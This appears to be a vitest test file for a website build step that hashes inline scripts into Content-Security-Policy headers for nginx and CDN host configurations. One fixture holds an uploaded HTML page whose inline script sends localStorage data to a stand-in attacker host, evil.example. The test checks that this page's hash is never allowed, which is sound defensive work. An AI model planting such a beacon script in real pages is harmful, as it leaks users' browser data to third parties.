import { createHash } from "node:crypto";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { formsCspSources } from "../app/forms/csp-sources";
import { resolveFormsSettings } from "../app/forms/settings";
import { renderHeadersFile } from "./cdn-headers";
import { collectPageHashes, fileForPath, inlineScriptHashes, urlsForFile } from "./csp";
import { renderNginxHeaders, renderScriptHashMap } from "./host-config";
import { contentSecurityPolicy } from "./security-headers";

const sha = (text: string) => `sha256-${createHash("sha256").update(text).digest("base64")}`;

describe("inline script hashes", () => {
  it("hashes each inline script's exact text, once, and skips external scripts and data blocks", () => {
    const html = [
      "<script>window.a = 1;</script>",
      '<script type="module" async="">import "/assets/x.js";\n</script>',
      '<script src="/assets/app.js"></script>',
      '<script type="application/ld+json">{"@type":"Organization"}</script>',
      "<script>window.a = 1;</script>",
    ].join("");
    expect(inlineScriptHashes(html)).toEqual([
      sha("window.a = 1;"),
      sha('import "/assets/x.js";\n'),
    ]);
  });

  it("matches the hash a browser computes for a known script", () => {
    // echo -n 'alert(1)' | openssl dgst -sha256 -binary | base64
    expect(inlineScriptHashes("<script>alert(1)</script>")).toEqual([
      "sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI=",
    ]);
  });
});

describe("the policy", () => {
  it("allows scripts only from our origin and by hash: no unsafe-inline, no unsafe-eval", () => {
    const csp = contentSecurityPolicy(["'sha256-abc'"]);
    const scriptSrc = csp.split("; ").find((d) => d.startsWith("script-src "));
    expect(scriptSrc).toBe("script-src 'self' 'wasm-unsafe-eval' 'sha256-abc'");
    for (const directive of [
      "default-src 'self'",
      "object-src 'none'",
      "base-uri 'self'",
      "frame-ancestors 'none'",
      "form-action 'self' mailto:",
    ]) {
      expect(csp).toContain(directive);
    }
    expect(csp).not.toMatch(/'unsafe-eval'/);
  });
});

describe("host configurations", () => {
  const pages = [
    { file: "index.html", urls: urlsForFile("index.html"), hashes: ["sha256-home"] },
    {
      file: "services/index.html",
      urls: urlsForFile("services/index.html"),
      hashes: ["sha256-a", "sha256-b"],
    },
    { file: "404.html", urls: urlsForFile("404.html"), hashes: ["sha256-nf"] },
  ];

  it("serves a page under its clean URL with and without the slash", () => {
    expect(pages.map((p) => p.urls)).toEqual([["/"], ["/services", "/services/"], ["/404.html"]]);
  });

  it("gives every page URL its own CSP block in _headers, shared headers under /*", () => {
    const out = renderHeadersFile("/*\n  {{security-headers}}\n{{page-csp}}\n", pages);
    expect(out).toMatch(/^\/\*\n {2}Strict-Transport-Security: max-age=\d+; includeSubDomains\n/);
    expect(out).toContain(
      "/services/\n  Content-Security-Policy: default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-a' 'sha256-b';",
    );
    expect(out.match(/Content-Security-Policy/g)).toHaveLength(4);
  });

  it("has the route data of in-app navigation revalidated, like the pages", () => {
    const out = renderHeadersFile("{{page-csp}}\n", pages, ["/platform.data"]);
    expect(out).toContain("/platform.data\n  Cache-Control: no-cache");
  });

  it("maps the served file and its .br twin to the page's hashes for nginx", () => {
    const map = renderScriptHashMap(pages);
    expect(map).toContain(`"/services/index.html" "'sha256-a' 'sha256-b'";`);
    expect(map).toContain(`"/services/index.html.br" "'sha256-a' 'sha256-b'";`);
    expect(renderNginxHeaders()).toContain(
      "script-src 'self' 'wasm-unsafe-eval' $hal_script_hashes;",
    );
    expect(
      renderNginxHeaders()
        .split("\n")
        .every((line) => line.endsWith(" always;")),
    ).toBe(true);
  });

  it("lets form delivery reach the configured endpoint's origin from both host configurations, and nothing else", () => {
    const forms = formsCspSources(
      resolveFormsSettings(undefined, { FORMS_ENDPOINT: "https://forms.halcyrion.example/leads" }),
    );
    const nginx = renderNginxHeaders(forms);
    expect(nginx).toContain("connect-src 'self' https://forms.halcyrion.example;");
    expect(nginx).toContain("form-action 'self' mailto: https://forms.halcyrion.example;");
    const headers = renderHeadersFile("{{page-csp}}\n", pages, [], forms);
    expect(headers.match(/connect-src 'self' https:\/\/forms\.halcyrion\.example;/g)).toHaveLength(
      4,
    );
    expect(headers).not.toContain("/leads");
  });

  it("writes the same headers as before when no form provider is configured", () => {
    const none = formsCspSources(resolveFormsSettings(undefined, {}));
    expect(renderNginxHeaders(none)).toBe(renderNginxHeaders());
    expect(renderHeadersFile("{{page-csp}}\n", pages, [], none)).toBe(
      renderHeadersFile("{{page-csp}}\n", pages),
    );
    expect(renderNginxHeaders()).toContain("connect-src 'self'; worker-src");
  });
});

describe("which HTML gets its inline scripts allowed", () => {
  let dir = "";
  afterEach(() => rm(dir, { recursive: true, force: true }));
  const page = (script: string) =>
    `<!doctype html><html><body><script>${script}</script></body></html>`;
  async function site(files: Record<string, string>) {
    dir = await mkdtemp(path.join(tmpdir(), "halcyrion-csp-"));
    for (const [file, html] of Object.entries(files)) {
      await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
      await writeFile(path.join(dir, file), html);
    }
    return dir;
  }

  it("hashes the site's pages and the 404 page, never an uploaded HTML file", async () => {
    const clientDir = await site({
      "index.html": page("home()"),
      "services/index.html": page("services()"),
      "404.html": page("notFound()"),
      "media/brochure.html": page("fetch('//evil.example/?' + localStorage.length)"),
      "google1234.html": page("verify()"),
    });
    const pages = await collectPageHashes(clientDir, ["/", "/services"]);
    expect(pages.map((p) => p.file)).toEqual(["404.html", "index.html", "services/index.html"]);
    const evil =
      inlineScriptHashes(page("fetch('//evil.example/?' + localStorage.length)"))[0] ?? "";
    const nginxMap = renderScriptHashMap(pages);
    const headers = renderHeadersFile("{{page-csp}}\n", pages);
    for (const config of [nginxMap, headers]) {
      expect(config).toContain(inlineScriptHashes(page("services()"))[0]);
      expect(config).not.toContain(evil);
      expect(config).not.toContain("/media/");
      expect(config).not.toContain(inlineScriptHashes(page("verify()"))[0]);
    }
  });

  it("stops the build, naming the file, when a listed page was not built", async () => {
    const clientDir = await site({ "index.html": page("home()"), "404.html": page("notFound()") });
    await expect(collectPageHashes(clientDir, ["/", "/blog/draft"])).rejects.toThrow(
      /blog\/draft\/index\.html is missing/,
    );
  });

  it("finds a page's file where static hosts serve it", () => {
    expect(["/", "/services", "/company/careers/apply"].map(fileForPath)).toEqual([
      "index.html",
      "services/index.html",
      "company/careers/apply/index.html",
    ]);
  });
});
